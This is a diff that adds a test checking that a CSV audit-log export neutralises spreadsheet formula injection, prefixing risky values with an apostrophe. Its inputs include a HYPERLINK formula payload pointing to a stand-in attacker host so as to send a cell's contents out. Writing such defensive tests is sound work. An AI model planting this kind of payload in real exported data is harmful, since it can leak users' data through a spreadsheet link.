@@ -150,6 +150,46 @@ describe("exportAuditCsv", () => {
       await database.close();
     }
   });
+
+  test("text a spreadsheet would run as a formula is written as text ('-prefixed, quoted)", async () => {
+    const database = await createTestDatabase();
+    try {
+      const reasons = [
+        '=HYPERLINK("https://evil.example/?"&A1,"open")',
+        "+1+2",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tcmd",
+        "a = b, not a formula",
+      ];
+      await appendAuditEvents(
+        database.db,
+        reasons.map((reason) => ({
+          ...APP_AUDIT,
+          actor: "adm_1",
+          reason,
+          kind: "admin.blocks.lift",
+          result: "ok",
+          target: "blk_1",
+        })),
+      );
+      const { csv } = await exportAuditCsv(database.db, { kind: "admin.blocks.lift" });
+      expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",`);
+      expect(csv).toContain(`,"'+1+2",`);
+      expect(csv).toContain(`,"'@SUM(A1:A9)",`);
+      const parsed = parseCsv(csv).slice(1);
+      // No field of any row starts a formula; each reason reads back behind its one quote.
+      for (const record of parsed)
+        for (const field of record) expect(field).not.toMatch(/^[=+\-@\t\r]/);
+      expect(parsed.map((record) => record[22])).toEqual(
+        [...reasons].reverse().map((reason) => (/^[=+\-@\t]/.test(reason) ? `'${reason}` : reason)),
+      );
+      // Numbers stay numbers.
+      expect(parsed[0]?.[0]).toMatch(/^\d+$/);
+    } finally {
+      await database.close();
+    }
+  });
 });
 
 /** A strict RFC 4180 reader, to check the export reads back field for field. */
